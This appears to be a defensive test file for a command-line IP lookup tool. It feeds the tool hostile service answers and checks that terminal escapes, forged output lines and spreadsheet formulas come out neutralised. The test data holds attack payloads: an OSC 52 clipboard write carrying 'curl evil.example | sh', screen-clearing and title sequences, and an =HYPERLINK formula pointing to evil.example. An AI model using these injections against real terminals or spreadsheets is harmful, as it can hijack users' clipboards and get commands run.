/**
 * A hostile lookup service and a hostile state.db, against the built command: answers and messages
 * carrying terminal escapes (an OSC 52 clipboard write, a screen clear, a window title, 8-bit CSI) reach the
 * terminal as plain text; `lookup --csv` escapes formulas as the bulk export does; a cooldown no date can hold is
 * printed as a sentence, not as "unexpected error (RangeError)". Its addresses are documentation ones (reserved): the
 * lookups say --yes, as a user who wants them looked up does.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import http from 'node:http';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI, cli, hasKeyring, tempDir, testKey } from './helpers';
import { listenOnLoopback } from '../helpers/local-server';

const KEY = testKey('hostile');
/** Every control character a terminal acts on (C0 but \n, DEL, C1). */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

const CLIPBOARD = Buffer.from('curl evil.example | sh').toString('base64');
/** A 400 whose message writes the clipboard (OSC 52), clears the screen and scrollback, and forges a line. */
const MESSAGE = `bad \x1b]52;c;${CLIPBOARD}\x07\x1b[2J\x1b[3J\x1b[H\u009b2Jinput\r\nlookup-tray: all fine`;
const ANSWER = {
  data: {
    ip: '203.0.113.2',
    hostname: '\x1b]0;PWNED-TITLE\x07evil.example',
    location: {
      city: { name: 'Spring\u009b2Jfield' },
      country: { name: 'Atlantis\x1b]52;c;' + CLIPBOARD + '\x1b\\' },
    },
    // A newline would forge a row of the summary under it.
    connection: { organization: 'Evil Org\n  security  nothing flagged', asn: 64500 },
    security: { is_vpn: true },
  },
};
const FORMULAS = {
  data: {
    ip: '203.0.113.3',
    location: {
      country: { name: '=HYPERLINK("http://evil.example","click")' },
      region: { name: '+1+2' },
      city: { name: '-2+3' },
      latitude: -33.9,
    },
    connection: { organization: '@SUM(A1:A9)' },
  },
};
const TEN_YEARS_S = 10 * 365 * 24 * 3600;

let server: http.Server;
let url: string;
let data: ReturnType<typeof tempDir>;

function reply(res: http.ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}): void {
  res.writeHead(status, { 'content-type': 'application/json', ...headers });
  res.end(JSON.stringify(body));
}

beforeAll(async () => {
  server = http.createServer((req, res) => {
    const u = new URL(req.url ?? '/', 'http://127.0.0.1');
    if (u.pathname !== '/v2/info') return reply(res, 404, { message: 'not found' });
    if (req.headers.apikey !== KEY) return reply(res, 401, { message: 'no' });
    const ip = u.searchParams.get('ip');
    if (ip === '203.0.113.1') return reply(res, 400, { message: MESSAGE });
    if (ip === '203.0.113.2') return reply(res, 200, ANSWER);
    if (ip === '203.0.113.3') return reply(res, 200, FORMULAS);
    if (ip === '203.0.113.4') return reply(res, 429, { message: 'slow down' }, { 'retry-after': String(TEN_YEARS_S) });
    reply(res, 200, { data: { ip } });
  });
  url = await listenOnLoopback(server);
  data = tempDir();
  if (hasKeyring) {
    const set = await cli(data.dir, ['key', 'set', '--stdin', '--no-verify', '--base-url', url], { input: KEY });
    expect(set.code, set.stderr).toBe(0);
  }
});
afterAll(async () => {
  if (hasKeyring) await cli(data.dir, ['key', 'remove']);
  server.closeAllConnections();
  await new Promise((r) => server.close(r));
  data.remove();
});

describe.runIf(hasKeyring)('terminal escapes from the service', () => {
  it("a 400's message with a clipboard write and a screen clear is printed as one plain line on stderr", async () => {
    const r = await cli(data.dir, ['lookup', '203.0.113.1', '--yes']);
    expect(r.code).toBe(7);
    expect(r.stderr).not.toMatch(CONTROL);
    expect(r.stderr.trimEnd().split('\n')).toHaveLength(1); // "lookup-tray: all fine" cannot start a line of its own
    expect(r.stderr).toMatch(/^203\.0\.113\.1: The service answered 400: bad \]52;c;\S+\[2J\[3J\[H2Jinput lookup-tray/);
  });

  it('off a terminal, JSON carries every character of the answer, none of them raw', async () => {
    const r = await cli(data.dir, ['lookup', '203.0.113.2', '--yes']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(CONTROL);
    expect(JSON.parse(r.stdout)).toEqual(ANSWER);
  });

  const hasTmux = spawnSync('tmux', ['-V']).status === 0;
  it.runIf(hasTmux)(
    'on a terminal: the title, the clipboard and the screen stay as they were, and no summary row is forged',
    async () => {
      const socket = `lt-hostile-${process.pid}`;
      const conf = join(data.dir, 'tmux.conf');
      // Let applications write tmux's clipboard (OSC 52), so that an attempt would show as a paste buffer.
      writeFileSync(conf, 'set -s set-clipboard on\n');
      const tmux = (...args: string[]) =>
        execFileSync('tmux', ['-L', socket, '-f', conf, ...args], { encoding: 'utf8' });
      const cmd = `'${process.execPath}' '${CLI}' --data-dir '${data.dir}' lookup --yes 203.0.113.2 203.0.113.1`;
      try {
        tmux(
          'new-session',
          '-d',
          '-s',
          'h',
          '-x',
          '150',
          '-y',
          '40',
          'sh',
          '-c',
          `echo BEFORE; ${cmd}; echo EXIT=$?; sleep 60`,
        );
        let screen = '';
        await expect
          .poll(() => ((screen = tmux('capture-pane', '-p', '-J', '-t', 'h')), screen.includes('EXIT=')), {
            timeout: 20_000,
          })
          .toBe(true);
        expect(screen).toContain('EXIT=7');
        expect(screen).toMatch(/^BEFORE$/m); // not cleared
        expect(tmux('display-message', '-p', '-t', 'h', '#{pane_title}')).not.toContain('PWNED');
        expect(tmux('list-buffers')).toBe(''); // no clipboard write
        expect(screen).toMatch(/^ {2}hostname +\]0;PWNED-TITLEevil\.example$/m);
        expect(screen).toMatch(/^ {2}location +Spring2Jfield, Atlantis\]52;c;\S+$/m);
        expect(screen).toMatch(/^ {2}network +Evil Org security +nothing flagged · AS64500$/m);
        expect(screen).not.toMatch(/^ {2}security +nothing flagged$/m);
        expect(screen).toMatch(/^ {2}security +vpn$/m);
      } finally {
        spawnSync('tmux', ['-L', socket, 'kill-server']);
      }
    },
  );
});

describe.runIf(hasKeyring)('spreadsheet formulas', () => {
  it('lookup --csv escapes cells that would run as formulas, exactly as the bulk export does', async () => {
    const fields = ['ip', 'country', 'region', 'city', 'latitude', 'organization'];
    const paths = [
      'ip',
      'location.country.name',
      'location.region.name',
      'location.city.name',
      'location.latitude',
      'connection.organization',
    ];
    const r = await cli(data.dir, ['lookup', '203.0.113.3', '--yes', '--csv', '--fields', paths.join(',')]);
    expect(r.code).toBe(0);
    const [header, row] = r.stdout.trimEnd().split('\n');
    expect(header).toBe(paths.join(','));
    expect(row).toBe(`203.0.113.3,"'=HYPERLINK(""http://evil.example"",""click"")",'+1+2,'-2+3,-33.9,'@SUM(A1:A9)`);

    const bulk = await cli(
      data.dir,
      ['bulk', '-', '--yes', '--include-reserved', '--format', 'csv', '--fields', fields.join(',')],
      {
        input: '203.0.113.3\n',
      },
    );
    expect(bulk.code, bulk.stderr).toBe(0);
    expect(bulk.stdout.trimEnd().split(/\r?\n/)[1]).toBe(row);
  });
});

/** A key of this folder's own (each data folder has its own keychain items). */
async function keyIn(dir: string): Promise<void> {
  expect((await cli(dir, ['key', 'set', '--stdin', '--no-verify'], { input: KEY })).code).toBe(0);
}

describe('a cooldown no date can hold', () => {
  /** A data folder on the hostile service whose state.db, written by "another process", holds `until`. */
  async function folderWithCooldown(until: number): Promise<ReturnType<typeof tempDir>> {
    const d = tempDir();
    expect((await cli(d.dir, ['config', 'set', 'baseUrl', url])).code).toBe(0);
    if (hasKeyring) await keyIn(d.dir);
    expect((await cli(d.dir, ['cache', 'clear'])).code).toBe(0); // creates state.db
    const db = new DatabaseSync(join(d.dir, 'state.db'));
    try {
      db.prepare('INSERT OR REPLACE INTO engine (profile, json, updated_at) VALUES (?, ?, ?)').run(
        'default',
        JSON.stringify({ version: 1 }),
        Date.now(),
      );
      db.prepare('INSERT OR REPLACE INTO cooldown (profile, scope, until, since) VALUES (?, ?, ?, ?)').run(
        'default',
        'month',
        until,
        Date.now(),
      );
    } finally {
      db.close();
    }
    return d;
  }

  it('quota prints no error and no cooldown for a recorded end of 1e300 or 9e15 ms (no time at all)', async () => {
    for (const until of [1e300, 9e15]) {
      const d = await folderWithCooldown(until);
      try {
        const q = await cli(d.dir, ['quota']);
        expect(q.stderr).not.toContain('unexpected error');
        expect(q.code).toBe(0);
        expect(q.stdout).not.toMatch(/^Cooldown/m); // the core reads such a row as no cooldown
      } finally {
        d.remove();
      }
    }
  });

  it.runIf(hasKeyring)('a lookup is not held back by it for good: it is sent', async () => {
    const d = await folderWithCooldown(1e300);
    try {
      const r = await cli(d.dir, ['lookup', '203.0.113.9', '--yes']);
      expect(r.stderr).not.toContain('unexpected error');
      expect(r.code).not.toBe(5);
      expect(r.stderr).not.toContain('Nothing was sent');
    } finally {
      d.remove();
    }
  });

  it.runIf(hasKeyring)(
    'a Retry-After of ten years: exit 5 with the reset date, and quota shows the cooldown',
    async () => {
      const d = tempDir();
      try {
        expect((await cli(d.dir, ['config', 'set', 'baseUrl', url])).code).toBe(0);
        await keyIn(d.dir);
        const r = await cli(d.dir, ['lookup', '203.0.113.4', '--yes']);
        expect(r.stderr).not.toContain('unexpected error');
        expect(r.code).toBe(5);
        const year = new Date().getUTCFullYear() + 10;
        expect(r.stderr).toMatch(new RegExp(`resets at ${year}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ`));
        const q = await cli(d.dir, ['quota']);
        expect(q.stderr).not.toContain('unexpected error');
        expect(q.stdout).toMatch(
          new RegExp(`^Cooldown minute limit reached: nothing is sent for \\d+ d( \\d+ h)? \\(until ${year}-`, 'm'),
        );
      } finally {
        d.remove();
      }
    },
  );
});
